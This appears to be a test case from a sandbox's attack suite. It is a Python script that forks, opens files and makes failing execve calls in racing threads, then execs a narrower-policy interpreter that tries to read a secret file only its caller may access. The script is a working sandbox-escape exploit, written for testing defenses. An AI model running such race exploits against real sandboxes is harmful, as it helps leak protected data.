# SPDX-License-Identifier: Apache-2.0
# attack: while its threads open, fork and execute, a program executes one with a narrower policy, which reads what only its caller may
# class: narrow
# wins: leak
# policy: read: ["%A/box1"] ;; process: fork ;; exec: [{path: "%{python}", policy: builtin:python}]
from kit import *

CODE = '''
import os, sys
for i in range(20):
    try:
        os.write(1, os.read(os.open(sys.argv[1], 0), 200))
    except OSError:
        pass
'''
tried()
argv = [F['python'], '-IS', '-c', CODE, SECRET]
for i in range(8):
    pid = os.fork()
    if pid == 0:
        def opens():
            while True:
                fd = openat(SECRET)
                if fd >= 0:
                    os.close(fd)

        def forks():
            while True:
                child = os.fork()
                if child == 0:
                    os._exit(0)
                os.waitpid(child, 0)

        def fails():
            while True:
                sc('execve', os.fsencode(F['python']), (ctypes.c_char_p * 2)(b'python3', None), 1)

        for what in (opens, forks, fails):
            threading.Thread(target=what, daemon=True).start()
        # From the first thread, or from another one that takes its place.
        if i % 2:
            threading.Thread(target=lambda: os.execv(argv[0], argv)).start()
            time.sleep(60)
        os.execv(argv[0], argv)
    os.waitpid(pid, 0)
